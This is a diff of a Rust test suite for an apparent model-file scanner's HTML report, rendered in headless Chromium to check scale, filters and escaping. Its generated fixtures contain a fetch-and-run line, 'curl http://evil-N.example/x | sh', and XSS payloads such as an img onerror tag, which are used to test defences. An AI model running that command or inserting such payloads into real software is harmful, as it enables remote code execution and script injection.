@@ -3,6 +3,7 @@
 //! by headless Chromium.
 
 use crate::support::{aigis, aigis_command, repo_root, temp_dir};
+use aigis_scan::{FileResult, Finding, Format, RuleId, Severity, Status, Suppressed};
 use aigis_testkit::Tool;
 use serde_json::Value;
 use std::path::{Path, PathBuf};
@@ -274,8 +275,87 @@ pub(crate) fn html_escapes_file_names() {
     assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;.pkl"));
 }
 
+/// Flags for a headless Chromium that touches nothing outside its profile.
+const CHROMIUM_FLAGS: [&str; 9] = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--hide-scrollbars",
+];
+
+/// Runs headless Chromium on `url` with `args` (a window size, `--dump-dom` or `--screenshot`).
+fn chromium(profile: &Path, args: &[String], url: &str) -> std::process::Output {
+    Command::new(Tool::Chromium.path())
+        .args(CHROMIUM_FLAGS)
+        .arg(format!("--user-data-dir={}", profile.display()))
+        .args(args)
+        .arg(url)
+        .output()
+        .unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// The DOM after the page's script ran, at a window `width` × `height`.
+fn dump_dom(profile: &Path, url: &str, width: u32, height: u32) -> String {
+    let out = chromium(
+        profile,
+        &[
+            format!("--window-size={width},{height}"),
+            "--dump-dom".into(),
+        ],
+        url,
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// A full-page screenshot at `width` (the window as tall as the page, capped).
+fn screenshot(profile: &Path, url: &str, width: u32, height: u32, shot: &Path) {
+    let _ = std::fs::remove_file(shot);
+    let out = chromium(
+        profile,
+        &[
+            format!("--window-size={width},{}", height.clamp(600, 12_000)),
+            format!("--screenshot={}", shot.display()),
+        ],
+        url,
+    );
+    assert!(
+        shot.metadata().is_ok_and(|m| m.len() > 10_000),
+        "no screenshot: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// A number the page's script wrote on `<html>` (`data-scroll-height="1234"`).
+fn page_number(dom: &str, attribute: &str) -> u32 {
+    let needle = format!("{attribute}=\"");
+    dom.split_once(&needle)
+        .and_then(|(_, rest)| rest.split('"').next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("no {attribute} in {}", &dom[..dom.len().min(1500)]))
+}
+
+/// The by-file view's part of a dumped DOM (the findings each appear once there).
+fn by_file(dom: &str) -> &str {
+    let start = dom.find("id=\"by-file\"").unwrap_or(0);
+    let end = dom.find("id=\"by-rule\"").unwrap_or(dom.len());
+    &dom[start..end.max(start)]
+}
+
+/// Finding rows in the by-file view that the filters left visible.
+fn visible_rows(dom: &str) -> usize {
+    by_file(dom)
+        .split("<tr class=\"row")
+        .skip(1)
+        .filter(|row| !row.split('>').next().unwrap_or("").contains("hidden"))
+        .count()
+}
+
 pub(crate) fn html_report_renders_in_headless_chromium() {
-    let browser = Tool::Chromium.path();
     let artifacts = repo_root().join("target/test-artifacts");
     std::fs::create_dir_all(&artifacts).unwrap_or_else(|e| panic!("{e}"));
     let work = temp_dir();
@@ -284,46 +364,277 @@ pub(crate) fn html_report_renders_in_headless_chromium() {
     std::fs::write(&page, &html).unwrap_or_else(|e| panic!("{e}"));
     let url = format!("file://{}", page.display());
     let profile = work.path().join("profile");
-    let common = [
-        "--headless",
-        "--no-sandbox",
-        "--disable-gpu",
-        "--disable-quic",
-        "--no-first-run",
-        "--disable-background-networking",
-        "--disable-component-update",
-        "--disable-sync",
-        "--hide-scrollbars",
-    ];
-    let shot = artifacts.join("report.png");
-    let _ = std::fs::remove_file(&shot);
-    let out = Command::new(&browser)
-        .args(common)
-        .arg(format!("--user-data-dir={}", profile.display()))
-        .arg(format!("--screenshot={}", shot.display()))
-        .arg("--window-size=1280,2000")
-        .arg(&url)
-        .output()
-        .unwrap_or_else(|e| panic!("{e}"));
+    screenshot(&profile, &url, 1280, 2000, &artifacts.join("report.png"));
+    let dom = dump_dom(&profile, &url, 1280, 900);
     assert!(
-        shot.metadata().is_ok_and(|m| m.len() > 10_000),
-        "no screenshot: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    let out = Command::new(&browser)
-        .args(common)
-        .arg(format!("--user-data-dir={}", profile.display()))
-        .arg("--dump-dom")
-        .arg(&url)
-        .output()
-        .unwrap_or_else(|e| panic!("{e}"));
-    let dom = String::from_utf8_lossy(&out.stdout);
-    assert!(
-        dom.contains("<table id=\"findings\" data-ready=\"1\">"),
-        "script did not run: {}",
+        dom.contains("data-ready=\"1\"") && dom.contains("data-styled=\"1\""),
+        "script or style did not run: {}",
         &dom[..dom.len().min(2000)]
     );
     assert!(dom.contains("showing "), "filter counter missing");
     assert!(dom.contains("PICKLE-CALL-DANGEROUS"));
     assert!(dom.contains("os.system"), "decompiled call missing");
+    assert!(dom.contains("MALICIOUS"), "content verdicts missing");
+    assert!(
+        dom.contains("<dt>time</dt>") && dom.contains("<dt>host</dt>"),
+        "the CLI fills time and host"
+    );
+}
+
+/// A page of the test's own that lays the report out in a 390 px wide frame (a phone) and copies
+/// what the report's script measured onto its own `<body>`.
+const PHONE_FRAME: &str = r#"<!DOCTYPE html><html><body style="margin:0">
+<iframe id="phone" src="report-1000.html" style="width:390px;height:844px;border:0"></iframe>
+<script>
+var frame = document.getElementById('phone');
+frame.addEventListener('load', function () {
+  var page = frame.contentDocument.documentElement;
+  ['data-viewport-width', 'data-scroll-width', 'data-scroll-height', 'data-ready'].forEach(function (name) {
+    document.body.setAttribute(name, page.getAttribute(name) || '');
+  });
+  frame.style.height = page.scrollHeight + 'px';
+});
+</script></body></html>
+"#;
+
+/// What the generated report holds, for the counts the page must show.
+struct Generated {
+    report: aigis_report::ScanReport,
+    /// Listed findings (location exposure is reported per location instead).
+    findings: usize,
+    /// Unsuppressed listed findings per severity.
+    active: std::collections::BTreeMap<Severity, usize>,
+    /// Suppressed findings.
+    suppressed: usize,
+}
+
+/// 1,000 findings over 250 files in 10 folders: every severity, rules of several kinds,
+/// suppressions, indicators, hostile markup in paths and messages, a world-writable folder
+/// (location exposure for 25 files), incomplete results and a dozen targets.
+fn thousand_findings() -> Generated {
+    let hostile = "<img src=x onerror=alert(1)></td><script>alert(2)</script>";
+    let mut results = Vec::new();
+    let mut active = std::collections::BTreeMap::new();
+    let (mut findings, mut suppressed) = (0, 0);
+    for i in 0..250usize {
+        let folder = format!("models/team-{}", i % 10);
+        let path = if i == 7 {
+            format!("{folder}/{hostile}.pt")
+        } else {
+            format!("{folder}/model-{i:04}.pt")
+        };
+        let first = if i % 5 == 0 {
+            Finding::new(
+                RuleId::PickleCallDangerous,
+                format!("loading calls os.system('curl http://evil-{i}.example/x | sh')"),
+            )
+            .with_indicators(vec![format!("http://evil-{i}.example/x")])
+        } else if i % 5 == 1 {
+            Finding::new(
+                RuleId::PickleCallUnknown,
+                format!("loading calls acme_{i}.train.hook('{hostile}')"),
+            )
+        } else {
+            Finding::new(
+                RuleId::PickleClassUnknown,
+                format!("loading constructs acme_{i}.models.Net"),
+            )
+        };
+        let mut list = vec![
+            first.at(format!("archive/data.pkl @ byte {}", 100 + i)),
+            Finding::new(RuleId::PickleRefUnknown, format!("imports acme_{i}.layers"))
+                .at("archive/data.pkl @ byte 40"),
+            Finding::new(
+                RuleId::ConfigNotApplied,
+                format!("{folder}/aigis.toml not applied"),
+            ),
+            Finding::new(
+                RuleId::PickleFormat,
+                "pickle can run code when loaded; prefer safetensors",
+            ),
+        ];
+        if i % 7 == 0 {
+            list[1].suppressed = Some(Suppressed {
+                reason: "reviewed <b>team</b> layers".into(),
+                expires: Some("2099-12-31".into()),
+            });
+        }
+        for f in &list {
+            findings += 1;
+            if f.is_active() {
+                *active.entry(f.severity).or_insert(0) += 1;
+            } else {
+                suppressed += 1;
+            }
+        }
+        if i % 10 == 3 {
+            list.push(
+                Finding::new(RuleId::HostWritablePath, "others can write this folder")
+                    .with_severity(Severity::High)
+                    .at(folder.clone()),
+            );
+        }
+        let status = if i % 50 == 49 {
+            Status::Invalid
+        } else {
+            Status::Ok
+        };
+        let mut result = FileResult::new(path, Format::PytorchZip, 4096 + i as u64, status, list);
+        if status == Status::Invalid {
+            result.incomplete = Some("a limit stopped the analysis".into());
+        }
+        results.push(result);
+    }
+    let mut report = aigis_report::ScanReport::new(results);
+    report.targets = (0..12).map(|i| format!("models/team-{i}")).collect();
+    report.targets.push(hostile.into());
+    report.host = Some(format!("ci-{hostile}"));
+    report.generated_at = Some("2026-12-03T11:22:39Z".into());
+    report.warnings = vec![format!("suppression for {hostile} expired")];
+    Generated {
+        report,
+        findings,
+        active,
+        suppressed,
+    }
+}
+
+/// The HTML report at scale: 1,000 findings render in a page of bounded height at 1280 px,
+/// without horizontal overflow at phone width (390 px), and the search box and severity
+/// filters (driven by `?q=`/`?sev=`/`?view=`, which click the page's own buttons) show the
+/// findings they should. Measurements and screenshots go to `target/test-artifacts/`.
+pub(crate) fn html_report_with_a_thousand_findings_stays_usable() {
+    let artifacts = repo_root().join("target/test-artifacts");
+    std::fs::create_dir_all(&artifacts).unwrap_or_else(|e| panic!("{e}"));
+    let generated = thousand_findings();
+    assert_eq!(generated.findings, 1000);
+    let html = aigis_report::html::render(&generated.report);
+    let page = artifacts.join("report-1000.html");
+    std::fs::write(&page, &html).unwrap_or_else(|e| panic!("{e}"));
+    let url = format!("file://{}", page.display());
+    let work = temp_dir();
+    let profile = work.path().join("profile");
+    let count = |sev| generated.active.get(&sev).copied().unwrap_or(0);
+
+    // Desktop: the default view (info and suppressed off), its height and time.
+    let started = std::time::Instant::now();
+    let dom = dump_dom(&profile, &url, 1280, 900);
+    let wall = started.elapsed();
+    assert!(
+        dom.contains("data-ready=\"1\"") && dom.contains("data-styled=\"1\""),
+        "script or style did not run: {}",
+        &dom[..dom.len().min(2000)]
+    );
+    let default_shown = generated.findings - generated.suppressed - count(Severity::Info);
+    assert!(
+        dom.contains(&format!("showing {default_shown} of 1000 findings")),
+        "{}",
+        &dom[..dom.len().min(3000)]
+    );
+    assert_eq!(visible_rows(&dom), default_shown);
+    let height = page_number(&dom, "data-scroll-height");
+    let render_ms = page_number(&dom, "data-render-ms");
+    assert!(height < 6000, "page is {height} px tall at 1280 px wide");
+    assert!(
+        dom.matches("<details class=\"grp\" open").count() <= 6,
+        "only the first groups start open"
+    );
+    assert_eq!(
+        dom.matches("<script").count(),
+        1,
+        "hostile markup became a script"
+    );
+    assert!(!dom.contains("<img"), "hostile markup became an element");
+    assert!(dom.contains("Where the files are") && dom.contains("models/team-3"));
+    assert!(dom.contains("MALICIOUS") && dom.contains("SUSPICIOUS") && dom.contains("REVIEW"));
+    screenshot(
+        &profile,
+        &url,
+        1280,
+        height,
+        &artifacts.join("report-1000.png"),
+    );
+
+    // Filters and search, each a click sequence on the page's own controls.
+    let with = |query: &str| dump_dom(&profile, &format!("{url}?{query}"), 1280, 900);
+    let dom = with("sev=critical");
+    assert_eq!(visible_rows(&dom), count(Severity::Critical));
+    let dom = with("sev=suppressed");
+    assert_eq!(visible_rows(&dom), generated.suppressed);
+    let dom = with("sev=critical,high,medium,low,info,suppressed&q=model-0042.pt");
+    assert_eq!(visible_rows(&dom), 4, "every finding of one file");
+    let dom = with("q=os.system+evil-15.example");
+    assert_eq!(visible_rows(&dom), 1, "a search of two words");
+    assert!(
+        by_file(&dom).contains("<details class=\"grp\" open=\"\">"),
+        "the matching file is opened"
+    );
+    let dom = with("sev=critical,high,medium,low,info,suppressed&q=malicious");
+    assert_eq!(
+        visible_rows(&dom),
+        200,
+        "the 50 malicious files, by their verdict"
+    );
+    let dom = with("q=critical");
+    assert_eq!(
+        visible_rows(&dom),
+        count(Severity::Critical),
+        "a file's counts are not searched"
+    );
+    let dom = with("q=%3Cimg+src%3Dx");
+    assert!(visible_rows(&dom) >= 50, "markup is searched as text");
+    assert!(!dom.contains("<img"));
+    let dom = with("view=rule&sev=critical");
+    assert!(dom.contains("id=\"by-file\" data-view=\"file\" hidden"));
+    assert!(!dom.contains("id=\"by-rule\" data-view=\"rule\" hidden"));
+    assert!(dom.contains("showing "));
+
+    // Phone width: nothing wider than the screen. Headless Chromium keeps windows at least
+    // 500 px wide, so the report is laid out in a 390 px frame of a page of the test's own,
+    // which copies what the report measured (file pages read each other with
+    // --allow-file-access-from-files) and stretches the frame to the page for the screenshot.
+    let phone = artifacts.join("report-1000-phone.html");
+    std::fs::write(&phone, PHONE_FRAME).unwrap_or_else(|e| panic!("{e}"));
+    let phone_url = format!("file://{}", phone.display());
+    let out = chromium(
+        &profile,
+        &[
+            "--allow-file-access-from-files".into(),
+            "--window-size=500,900".into(),
+            "--dump-dom".into(),
+        ],
+        &phone_url,
+    );
+    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
+    let viewport = page_number(&dom, "data-viewport-width");
+    let scroll_width = page_number(&dom, "data-scroll-width");
+    let phone_height = page_number(&dom, "data-scroll-height");
+    assert_eq!(viewport, 390, "frame width");
+    assert!(
+        scroll_width <= viewport,
+        "horizontal overflow at phone width: {scroll_width} > {viewport}"
+    );
+    let shot = artifacts.join("report-1000-phone.png");
+    let _ = std::fs::remove_file(&shot);
+    let out = chromium(
+        &profile,
+        &[
+            "--allow-file-access-from-files".into(),
+            format!("--window-size=500,{}", phone_height.clamp(600, 12_000)),
+            format!("--screenshot={}", shot.display()),
+        ],
+        &phone_url,
+    );
+    assert!(
+        shot.metadata().is_ok_and(|m| m.len() > 10_000),
+        "no phone screenshot: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let numbers = format!(
+        "1,000 findings, {} bytes of HTML\nrender (navigation to load, in page): {render_ms} ms\nchromium --dump-dom wall time: {} ms\npage height at 1280 px: {height} px\npage height at 390 px: {phone_height} px, width {scroll_width} px of {viewport}\n",
+        html.len(),
+        wall.as_millis()
+    );
+    std::fs::write(artifacts.join("report-1000.txt"), &numbers).unwrap_or_else(|e| panic!("{e}"));
+    eprint!("{numbers}");
 }
